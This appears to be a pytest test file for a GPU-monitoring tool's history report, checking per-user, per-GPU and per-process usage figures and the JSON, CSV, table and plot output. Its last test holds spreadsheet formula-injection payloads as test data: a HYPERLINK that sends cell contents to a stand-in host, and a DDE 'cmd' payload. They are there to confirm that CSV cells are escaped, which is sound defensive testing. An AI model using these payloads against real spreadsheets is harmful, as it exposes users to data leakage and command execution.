"""gputop report: the figures match what was recorded, within one sample (docs/history.md)."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest
from helpers.history import (
    ALICE_TRAIN,
    BOB_NOTEBOOK,
    GIB_MIB,
    MIB,
    holders_scenario,
    process,
    read_only,
    record_stepped,
)

from gputop.cli.main import main
from gputop.core.history.report import ReportBy, ReportQuery, ReportRow, build_report

INTERVAL_S = 5.0
HOUR_SAMPLES = 720  # an hour of 5-second samples
GIB = GIB_MIB * MIB


@pytest.fixture(scope="module")
def hour_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An hour of the known holders, recorded once for the module."""
    directory = tmp_path_factory.mktemp("history")
    store = directory / "state" / "history.sqlite3"
    record_stepped(holders_scenario(directory / "holders.json"), store, HOUR_SAMPLES)
    return store


def report(store: Path, by: ReportBy, idle_min_s: float = 1800.0) -> dict[str | int, ReportRow]:
    connection = read_only(store)
    try:
        rows = build_report(connection, ReportQuery(0.0, 4e9, by, idle_min_s))
    finally:
        connection.close()
    return {row.key: row for row in rows}


def test_each_user_is_counted_once_per_card_it_held_for_the_hour(hour_store: Path) -> None:
    rows = report(hour_store, ReportBy.USER)
    assert rows["alice"].gpu_seconds == pytest.approx(2 * 3600, abs=INTERVAL_S)
    assert rows["bob"].gpu_seconds == pytest.approx(3600, abs=INTERVAL_S)
    # carol's two processes share one card: one hour, not two
    assert rows["carol"].gpu_seconds == pytest.approx(3600, abs=INTERVAL_S)


def test_the_idle_holder_is_reported_first_with_the_time_it_held_a_card_idle(
    hour_store: Path,
) -> None:
    connection = read_only(hour_store)
    try:
        rows = build_report(connection, ReportQuery(0.0, 4e9, ReportBy.USER, 1800.0))
    finally:
        connection.close()
    assert rows[0].key == "bob"
    assert rows[0].idle_held_seconds == pytest.approx(3600, abs=INTERVAL_S)
    assert all(row.idle_held_seconds == 0 for row in rows[1:])


def test_an_idle_stretch_shorter_than_idle_min_is_not_holding_idle(hour_store: Path) -> None:
    assert report(hour_store, ReportBy.USER, idle_min_s=2 * 3600)["bob"].idle_held_seconds == 0


def test_memory_and_sm_are_the_holders_own(hour_store: Path) -> None:
    rows = report(hour_store, ReportBy.USER)
    assert rows["alice"].peak_memory_bytes == 20 * GIB
    assert rows["alice"].mean_memory_bytes == pytest.approx(12 * GIB, rel=1e-6)
    assert rows["alice"].mean_sm_util == pytest.approx(40.0)  # 50 % on one card, 30 on one
    assert rows["carol"].peak_memory_bytes == 8 * GIB  # both of its processes on one card
    assert rows["carol"].mean_sm_util == pytest.approx(50.0)
    assert rows["bob"].mean_sm_util == 0.0


def test_by_gpu_counts_each_card_once_however_many_hold_it(hour_store: Path) -> None:
    rows = report(hour_store, ReportBy.GPU)
    assert set(rows) == {0, 1, 2}
    assert rows[1].gpu_seconds == pytest.approx(3600, abs=INTERVAL_S)
    assert rows[1].peak_memory_bytes == 14 * GIB
    assert rows[1].idle_held_seconds == 0  # alice's eval keeps it busy


def test_by_process_names_the_pid_its_user_and_command(hour_store: Path) -> None:
    rows = report(hour_store, ReportBy.PROCESS)
    assert rows[BOB_NOTEBOOK].user == "bob"
    assert rows[BOB_NOTEBOOK].command == "jupyter-lab"
    assert rows[BOB_NOTEBOOK].idle_held_seconds == pytest.approx(3600, abs=INTERVAL_S)
    assert rows[ALICE_TRAIN].command == "python train.py"


def test_a_window_counts_only_the_samples_inside_it(hour_store: Path) -> None:
    connection = read_only(hour_store)
    try:
        (first,) = connection.execute("SELECT MIN(t) FROM samples").fetchone()
        query = ReportQuery(first, first + 600, ReportBy.USER, 1800.0)
        rows = {row.key: row for row in build_report(connection, query)}
    finally:
        connection.close()
    assert rows["bob"].gpu_seconds == pytest.approx(600, abs=INTERVAL_S)
    assert rows["bob"].idle_held_seconds == 0  # ten idle minutes, under the 30 of --idle-min


def run_report(store: Path, *args: str, capsys: pytest.CaptureFixture[str]) -> str:
    code = main(["report", "--db", str(store), "--since", "2000-01-01", *args])
    out = capsys.readouterr().out
    assert code == 0
    return out


def test_json_has_the_rows_with_their_figures(
    hour_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = json.loads(run_report(hour_store, "--json", "--by", "user", capsys=capsys))
    assert document["by"] == "user"
    bob = document["rows"][0]
    assert bob["key"] == "bob"
    assert bob["gpu_seconds"] == pytest.approx(3600, abs=INTERVAL_S)
    assert bob["idle_held_seconds"] == pytest.approx(3600, abs=INTERVAL_S)
    assert bob["peak_memory_bytes"] == 10 * GIB
    assert set(bob) >= {"mean_memory_bytes", "mean_sm_util"}


def test_csv_has_a_header_and_a_row_per_holder(
    hour_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = list(csv.DictReader(io.StringIO(run_report(hour_store, "--csv", capsys=capsys))))
    assert [row["key"] for row in rows] == ["bob", "alice", "carol"]
    assert float(rows[0]["idle_held_seconds"]) == pytest.approx(3600, abs=INTERVAL_S)


def test_the_table_puts_the_idle_holder_first_and_marks_it(
    hour_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = run_report(hour_store, capsys=capsys).splitlines()
    assert lines[1].split() == [
        "USER",
        "GPU",
        "TIME",
        "IDLE",
        "HELD",
        "MEAN",
        "MEM",
        "PEAK",
        "MEM",
        "MEAN",
        "SM",
        "SM",
        "ACTIVE",
        "TENSOR",
    ]
    assert lines[2].split()[:4] == ["!", "bob", "1h00m00s", "1h00m00s"]
    assert lines[3].split()[:2] == ["alice", "2h00m00s"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "3 days"], "'3 days' is not a time: give a duration ago"),
        (["--since", "2026-02-30"], "is not a time"),
        (["--since", "٣d"], "is not a time"),
        (["--since", "1d", "--until", "2d"], "is not before --until"),
    ],
)
def test_a_bad_window_is_refused_with_an_accepted_form(
    hour_store: Path, args: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["report", "--db", str(hour_store), *args])
    error = capsys.readouterr().err
    assert code == 2
    assert message in error
    assert "Traceback" not in error


def test_a_bad_idle_min_is_refused_before_anything_is_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as stopped:
        main(["report", "--db", str(tmp_path / "none.sqlite3"), "--idle-min", "30"])
    assert stopped.value.code == 2
    assert "give a number and a unit: 90s, 90m, 24h, 7d" in capsys.readouterr().err


def test_without_a_store_the_message_says_how_to_start_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", "--db", str(tmp_path / "none.sqlite3")]) == 1
    assert "start 'gputop record'" in capsys.readouterr().err


def test_the_plot_draws_each_gpus_utilisation_and_memory_over_the_window(
    hour_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = run_report(hour_store, "--plot", "--by", "gpu", capsys=capsys)
    plot = out.split("\n\n", 1)[1].splitlines()
    assert plot[0].startswith("GPU utilisation and memory, ")
    util = plot[1].split()
    assert util[:2] == ["GPU", "0"] and util[2] == "util"
    assert util[3] == "▄" * 60  # 50 % all hour
    assert util[4:] == ["mean", "50", "%"]
    assert plot[2].split()[1] == "▄" * 60  # 20 GiB of 40
    assert len(plot) == 1 + 2 * 3


def test_a_stretch_without_samples_is_a_gap_in_the_plot(tmp_path: Path) -> None:
    from gputop.cli.report_plot import GAP, render_plot
    from gputop.core.history.series import gpu_series, recorded_span

    store = tmp_path / "state" / "history.sqlite3"
    scenario = holders_scenario(tmp_path / "holders.json")
    record_stepped(scenario, store, samples=120)  # ten minutes
    record_stepped(scenario, store, samples=120, start_s=1800)  # and ten after a 20-minute gap
    connection = read_only(store)
    try:
        span = recorded_span(connection, 0.0, 4e9)
        assert span is not None
        series = gpu_series(connection, *span, 40)
    finally:
        connection.close()
    bars = render_plot(series, *span, 40).splitlines()[1].split()[3]
    assert bars == "▄" * 10 + GAP * 20 + "▄" * 10


def test_a_short_recording_is_plotted_one_column_per_sample_or_more_without_gaps(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """25 s of 1-s samples on a 60-column plot: columns narrower than the samples showed
    every other one empty, headed "one column: 0 s"."""
    from gputop.cli.report_plot import GAP

    store = tmp_path / "state" / "history.sqlite3"
    record_stepped(holders_scenario(tmp_path / "holders.json"), store, 25, interval_s=1.0)
    out = run_report(store, "--plot", "--by", "gpu", capsys=capsys)
    plot = out.split("\n\n", 1)[1].splitlines()
    column_s = float(plot[0].split("(one column: ")[1].split(" s;")[0])
    assert 1.5 <= column_s <= 1.7  # at least one and a half samples a column
    bars = plot[1].split()[3]
    assert GAP not in bars and len(bars) == 16  # 25 s in columns of 1.56 s


def test_an_idle_min_under_a_minute_is_refused_saying_why(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit):
        main(["report", "--db", str(tmp_path / "none.sqlite3"), "--idle-min", "30s"])
    assert "give 1m or more (shorter idle stretches are not recorded)" in capsys.readouterr().err


def one_card(tmp_path: Path, *processes: dict[str, object]) -> str:
    from helpers.scenarios import minimal_gpu

    path = tmp_path / "one_card.json"
    path.write_text(json.dumps({"gpus": [minimal_gpu(processes=list(processes))]}))
    return str(path)


def stored(tmp_path: Path, scenario: str, samples: int = HOUR_SAMPLES) -> Path:
    store = tmp_path / "state" / "history.sqlite3"
    record_stepped(scenario, store, samples)
    return store


def test_a_process_idle_for_its_last_35_minutes_held_its_card_idle_that_long(
    tmp_path: Path,
) -> None:
    # SM 10 sin(2 pi t / 1 h), read as a whole percent: 5 or more (busy) while the sine is
    # above 0.45, from 4.5 to 25.5 minutes; idle in the first 4.5 and the last 34.5
    wave = {"base": 0, "amp": 10, "period": 3600, "min": 0, "max": 100}
    scenario = one_card(tmp_path, process(4300010, "dan", 8 * GIB_MIB, wave))
    store = stored(tmp_path, scenario)
    busy_from = math.asin(0.45) / (2 * math.pi) * 3600
    busy_until = 1800 - busy_from
    rows = report(store, ReportBy.PROCESS, idle_min_s=1800)
    assert rows[4300010].idle_held_seconds == pytest.approx(3600 - busy_until, abs=INTERVAL_S)
    # the idle minutes at the start count once --idle-min lets them
    rows = report(store, ReportBy.PROCESS, idle_min_s=60)
    expected = 3600 - busy_until + busy_from
    assert rows[4300010].idle_held_seconds == pytest.approx(expected, abs=2 * INTERVAL_S)


def test_a_process_whose_sm_flickers_around_5_costs_a_few_spans_and_is_not_idle(
    tmp_path: Path,
) -> None:
    flicker = {"base": 5, "jitter": 5, "jitter_period": 5, "min": 0, "max": 100}
    scenario = one_card(tmp_path, process(4300011, "erin", 8 * GIB_MIB, flicker))
    store = stored(tmp_path, scenario)
    assert report(store, ReportBy.PROCESS)[4300011].idle_held_seconds == 0
    connection = read_only(store)
    try:
        spans = connection.execute("SELECT COUNT(*) FROM process_spans").fetchone()[0]
    finally:
        connection.close()
    assert spans <= 5  # an hour in spans of at most 15 minutes, not one per sample


def test_a_user_with_a_busy_process_beside_an_idle_one_is_not_holding_the_card_idle(
    tmp_path: Path,
) -> None:
    scenario = one_card(
        tmp_path,
        process(4300012, "fay", 8 * GIB_MIB, 0, "python", "serve.py"),
        process(4300013, "fay", 2 * GIB_MIB, 70, "python", "train.py"),
    )
    store = stored(tmp_path, scenario)
    assert report(store, ReportBy.USER)["fay"].idle_held_seconds == 0
    assert report(store, ReportBy.USER)["fay"].peak_memory_bytes == 10 * GIB
    assert report(store, ReportBy.PROCESS)[4300012].idle_held_seconds == pytest.approx(
        3600, abs=INTERVAL_S
    )


def test_a_store_missing_a_table_is_a_message_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import sqlite3

    store = stored(tmp_path, holders_scenario(tmp_path / "holders.json"), samples=2)
    changed = sqlite3.connect(store)
    changed.execute("DROP TABLE process_spans")
    changed.commit()
    changed.close()
    assert main(["report", "--db", str(store)]) == 1
    error = capsys.readouterr().err
    assert f"Cannot read the history store {store}: no such table: process_spans" in error


def test_the_help_says_what_each_column_of_the_table_means(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """MEAN SM (the holder's processes' SM % added up: the share of the time their kernels
    ran) is not SM ACTIVE (how much of the SMs worked): a card whose kernels run all the time
    on a few SMs shows both, and the help says which is which (issue 40)."""
    from gputop.cli.report_command import HEADERS

    with pytest.raises(SystemExit) as exited:
        main(["report", "--help"])
    assert exited.value.code == 0
    text = " ".join(capsys.readouterr().out.split())
    for header in HEADERS[2:]:  # after the marker and who
        assert f"{header}:" in text, header
    assert "share of the time" in text and "at most the card's utilisation" in text


def test_by_gpu_a_cards_mean_sm_is_at_most_its_utilisation(tmp_path: Path) -> None:
    """dgx-h100 recorded for ten minutes: a card's MEAN SM (all its processes' SM % added up)
    is never more than the card's own mean utilisation (it said 100 % on every card, GPU 7
    too, whose SMs were 6 % active: its kernels run all the time on few SMs)."""
    store = tmp_path / "state" / "history.sqlite3"
    record_stepped("dgx-h100", store, samples=120)
    connection = read_only(store)
    try:
        utilisation = dict(
            connection.execute(
                "SELECT physical_index, AVG(utilization_gpu_percent) FROM gpu_samples "
                "GROUP BY physical_index"
            ).fetchall()
        )
    finally:
        connection.close()
    rows = report(store, ReportBy.GPU)
    assert set(rows) == set(range(8))
    for index, row in rows.items():
        assert row.mean_sm_util is not None and row.mean_sm_util <= utilisation[index] + 0.5
    seventh = rows[7]
    assert seventh.mean_sm_active_percent is not None and seventh.mean_sm_active_percent < 10
    assert seventh.mean_sm_util > 50  # busy all the time, on few SMs: the two columns differ


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Another user's command line (or a user or job name) that starts like a formula is
    a formula to a spreadsheet that opens the CSV (``=HYPERLINK(...)`` calling out): it is
    written with a leading ``'``, as spreadsheets read text; numbers are left as they are."""
    from gputop.cli.report_command import _write_csv

    hostile = ['=HYPERLINK("http://x/"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    rows = [
        ReportRow(text, -5.0, 0.0, None, None, None, user=text, command=text) for text in hostile
    ]
    _write_csv(rows)
    written = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    for row, text in zip(written, hostile, strict=True):
        assert row["key"] == row["user"] == row["command"] == "'" + text
        assert row["gpu_seconds"] == "-5.0"
